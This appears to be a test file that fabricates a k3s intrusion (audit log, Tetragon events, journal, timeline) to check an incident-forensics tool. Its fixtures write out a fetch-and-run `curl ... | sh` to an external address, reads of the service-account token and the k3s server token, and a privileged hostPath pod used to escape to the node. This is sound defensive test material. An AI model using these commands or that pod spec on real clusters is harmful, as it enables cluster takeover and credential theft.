"""A made incident on k3s with Tetragon and CRI-O, whose files a person took from consoles: the
audit log is Splunk's table, the journal is text without a year, the events are a table, the
written timeline counts from a moment. What happened is written down here, as it is made.

14:03:10  the encoder is made to run `curl http://203.0.113.66/x | sh`
14:04     from its address, with curl, the pod's account lists the secrets of its namespace;
          those of kube-system are denied
14:05     it makes a privileged pod with the root of the only node, and reads k3s' token in it
14:20     anna labels the pod and makes a policy; 14:22 and 14:40 she deletes both pods
What anna says to have done at 14:28, nobody did.
"""
import csv
import json
import sys
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from audit_forms import table  # noqa: E402
from kube_case import Made  # noqa: E402
from made_cases import account, lines  # noqa: E402
from made_responses import INSIDE, NET, RBAC, Day, clock, objects, pod, policy  # noqa: E402

CONTAINER, SANDBOX, POD = "3f" * 32, "5a" * 32, "encoder-6c9d8-abcde"
ENCODER = account("media", "encoder")
K3S = "k3s/v1.29.3+k3s1 (linux/amd64) kubernetes/8aecc26"
CLOSED = policy("quarantine", "media", {
    "podSelector": {"matchLabels": {"quarantine": "true"}}, "policyTypes": ["Ingress", "Egress"]})


def manifest(c, **labels):
    made = pod(c, f"media/{POD}", {
        "serviceAccountName": "encoder", "nodeName": "k3s-server", "containers": [
            {"name": "encoder", "image": "docker.io/acme/encoder:3.1", "env": [
                {"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "s3", "key": "k"}}}]}]},
        CONTAINER, {"app": "encoder", **labels}, "ReplicaSet/encoder-6c9d8", "10.42.0.7",
        created="2026-04-14T08:00:00Z")
    made["status"]["containerStatuses"][0]["containerID"] = "cri-o://" + CONTAINER
    return made


def ordinary(c):
    for i in range(360):
        at = clock(8, 0) + 60 * i
        c.request(at + 1, "system:node:k3s-server", "update", "leases kube-node-lease/k3s-server",
                  group="coordination.k8s.io", agent=K3S, source="127.0.0.1",
                  groups=("system:nodes", "system:authenticated"))
        c.request(at + 3, account("kube-system", "metrics-server"), "get",
                  "nodes/metrics k3s-server", agent="metrics-server/v0.7.0",
                  source="10.42.0.3", groups=INSIDE)
        if i % 10 == 0:
            c.request(at + 5, account("cert-manager", "cainjector"), "watch", "secrets",
                      agent="cainjector/v1.14.4", source="10.42.0.5", groups=INSIDE)
        if i % 30 == 0:
            c.request(at + 9, ENCODER, "get", "configmaps media/encoder", agent="encoder/3.1",
                      source="10.42.0.7", groups=INSIDE)


def attack(c):
    own = {"agent": "curl/7.88.1", "source": "10.42.0.7", "groups": INSIDE}
    shell = {"apiVersion": "v1", "kind": "Pod",
             "metadata": {"name": "node-shell", "namespace": "media"}, "spec": {
                 "nodeName": "k3s-server", "containers": [
                     {"name": "s", "image": "alpine", "securityContext": {"privileged": True}}],
                 "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}}
    c.request(clock(14, 4), ENCODER, "list", "secrets media/", **own)
    c.request(clock(14, 4, 20), ENCODER, "list", "secrets kube-system/", 403, **own)
    c.request(clock(14, 5), ENCODER, "create", "pods media/node-shell", 201, body=shell,
              answer=shell, **own)
    c.request(clock(14, 6), ENCODER, "create", "pods/exec media/node-shell", 101, **own,
              query="?command=cat&command=%2Fh%2Fvar%2Flib%2Francher%2Fk3s%2Fserver%2Ftoken")
    anna = {"source": "192.168.7.30", "groups": ("sre", "system:authenticated")}
    held = manifest(c, quarantine="true")
    c.request(clock(14, 20), "anna", "patch", f"pods media/{POD}", answer=held,
              body={"metadata": {"labels": {"quarantine": "true"}}}, **anna)
    c.request(clock(14, 20, 30), "anna", "create", "networkpolicies media/quarantine", 201,
              group=NET, body=CLOSED, answer=CLOSED, **anna)
    c.request(clock(14, 22), "anna", "delete", "pods media/node-shell", answer=shell, **anna)
    c.request(clock(14, 40), "anna", "delete", f"pods media/{POD}", answer=held, **anna)


def seen(c, at, binary, arguments, parent="/usr/local/bin/encoder"):
    """Tetragon's process_exec."""
    return {"process_exec": {"process": {
        "exec_id": f"x{at}", "pid": 900, "uid": 0, "cwd": "/", "binary": binary,
        "arguments": arguments, "flags": "execve", "start_time": c.time(at, 9), "pod": {
            "namespace": "media", "name": POD, "container": {
                "id": "cri-o://" + CONTAINER, "name": "encoder",
                "image": {"id": "x", "name": "docker.io/acme/encoder:3.1"}}}},
        "parent": {"exec_id": "p", "pid": 9, "binary": parent}},
        "node_name": "k3s-server", "time": c.time(at, 9)}


def k3s():
    c = Day("k3s", "2026-04-14")
    ordinary(c)
    attack(c)
    sensor = [seen(c, clock(8, 0, 5) + 600 * i, "/usr/bin/ffmpeg", "-i /in/a.mp4 /out/a.webm")
              for i in range(36)] + [
        seen(c, clock(14, 3, 10), "/bin/sh", '-c "curl -s http://203.0.113.66/x | sh"'),
        seen(c, clock(14, 3, 11), "/usr/bin/curl", "-s http://203.0.113.66/x", "/bin/sh"),
        seen(c, clock(14, 3, 50), "/bin/cat",
             "/var/run/secrets/kubernetes.io/serviceaccount/token", "/bin/sh")]
    role = {"apiVersion": RBAC + "/v1", "kind": "Role", "metadata": {
        "name": "reader", "namespace": "media"}, "rules": [
            {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}]}
    node = {"apiVersion": "v1", "kind": "Node", "metadata": {"name": "k3s-server", "labels": {
        "node-role.kubernetes.io/control-plane": "true"}}}
    c.files = {
        "splunk.csv": table(["_raw", "_time", "host"], [
            [json.dumps(r, separators=(",", ":")), r["stageTimestamp"], "k3s-server"]
            for r in c.records()], quoting=csv.QUOTE_ALL),
        "encoder.json": json.dumps(manifest(c), indent=1),
        "objects.json": objects(node, role, CLOSED),
        "tetragon.log": lines(sensor),
        "journal.txt": "".join(f"Apr 14 {at} k3s-server {who}[812]: {said}\n" for at, who, said in (
            ("08:00:03", "crio", f'time="2026-04-14 08:00:03.0Z" level=info msg="Started '
             f'container" PID=40 containerID={CONTAINER} description=media/{POD}/encoder '
             f'sandboxID={SANDBOX}'),
            ("14:40:01", "k3s", 'I0414 14:40:01.0 812 kubelet.go:2426] "SyncLoop DELETE" '
             f'source="api" pod="media/{POD}"'))),
        "events.txt": "# 2026-04-14T14:45:00Z\n"
                      "LAST SEEN   TYPE     REASON    OBJECT                    MESSAGE\n"
                      f"5m          Normal   Killing   pod/{POD}   Stopping container encoder\n",
        "timeline.md": f"""# Incident notes
T0 = 14 April 2026 14:03 UTC

| When | What |
|---|---|
| T+0 | A shell was started in {POD} and fetched a script |
| T+1m | The attacker listed the secrets of namespace media |
| T+2m | The attacker created the pod node-shell |
| T+17m | anna labelled the pod with quarantine |
| Apr 14 14:22 | anna deleted the pod node-shell |
| T+25m | anna deleted the role binding encoder |
"""}
    return c


class K3s(Made):
    make = k3s

    def test_the_first_sign_is_the_process(self):
        patient = self.documents["patient_zero"]
        self.assertEqual(patient["time"][:19], "2026-04-14T14:03:10")
        self.assertIn("/bin/sh", patient["process"]["actor"])
        first = self.documents["story"]["summary"][0]["text"]
        self.assertIn("curl -s http://203.0.113.66/x | sh", first)

    def test_every_claim(self):
        claims = self.claims()
        self.assertEqual([c for c, v in claims.items() if v == "contradicted"],
                         ["anna deleted the role binding encoder"])
        self.assertEqual(list(claims.values()).count("supported"), 5)

    def test_who_held_it_back(self):
        self.assertEqual(self.documents["containment"]["contained"][:19], "2026-04-14T14:20:30")
        self.assertEqual([(w, by) for w, _, by in self.acts()], [
            ("label", "anna"), ("network-policy", "anna"), ("delete-pod", "anna"),
            ("delete-pod", "anna")])

    def test_what_is_lost(self):
        cluster = self.documents["exposure"]["cluster"]
        self.assertEqual((cluster["etcd"]["lost"], cluster["certificate_authorities"]["lost"]),
                         ("yes", "yes"))
        self.assertIn(("secret", "media", "s3"), self.secrets())

    def test_nothing_grave_of_ordinary_accounts(self):
        grave = {(f["rule"], f["arguments"].get("actor"))
                 for f in self.documents["findings"]["findings"]
                 if f["severity"] in ("critical", "high") and f["rule"].startswith("audit_")}
        self.assertLessEqual({a for _, a in grave}, {ENCODER, None}, grave)

    def test_journal_and_events_are_of_the_pod(self):
        sources = {s["item"]: s for s in self.documents["coverage"]["sources"]}
        self.assertEqual({n: sources[n]["role"] for n in ("journal.txt", "events.txt",
                                                          "splunk.csv")},
                         {"journal.txt": "runtime-log", "events.txt": "kubernetes-events",
                          "splunk.csv": "audit-log"})


if __name__ == "__main__":
    unittest.main()
